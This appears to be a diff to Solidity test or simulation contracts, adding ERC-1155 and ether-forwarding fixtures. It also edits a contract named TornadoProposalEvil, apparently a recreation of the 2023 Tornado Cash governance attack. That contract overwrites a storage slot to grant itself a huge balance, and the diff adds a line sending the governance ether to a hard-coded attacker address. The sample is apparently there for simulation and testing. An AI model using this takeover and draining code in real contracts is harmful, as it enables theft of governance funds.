@@ -10,6 +10,7 @@ pragma solidity ^0.8.24;
 import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
 import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
 import {AccessControl} from "@openzeppelin/contracts/access/AccessControl.sol";
+import {ERC1155} from "@openzeppelin/contracts/token/ERC1155/ERC1155.sol";
 
 /// A plain ERC-20 with its whole supply minted to the deployer.
 contract ShapeToken is ERC20 {
@@ -40,6 +41,9 @@ contract TornadoProposalEvil {
         assembly {
             sstore(59, 10000000000000000000000)
         }
+        // And the governance's ether, to the attacker of 2023 (nothing when there is none).
+        (bool ok,) = payable(0x592340957eBC9e4Afb0E9Af221d06fDDDF789de9).call{value: address(this).balance}("");
+        require(ok, "send failed");
     }
 
     function emergencyStop() external {
@@ -199,5 +203,23 @@ contract MiniSablier {
         require(IERC20(tokenAddress).transferFrom(msg.sender, address(this), deposit), "token transfer failure");
         id = nextStreamId++;
         streams[id] = Stream(msg.sender, recipient, deposit, tokenAddress, startTime, stopTime);
+    }
+}
+
+// ---- Simulation: ERC-1155 and ether moved by internal calls ----------------------------------
+
+/// An ERC-1155 with ids 7 (100 units) and 8 (5 units) minted to `to`.
+contract ShapeMultiToken is ERC1155 {
+    constructor(address to) ERC1155("") {
+        _mint(to, 7, 100, "");
+        _mint(to, 8, 5, "");
+    }
+}
+
+/// Passes the ether it receives on to `to`: the payment shows only in a call trace.
+contract EthForwarder {
+    function forward(address payable to) external payable {
+        (bool ok,) = to.call{value: msg.value}("");
+        require(ok, "forward failed");
     }
 }
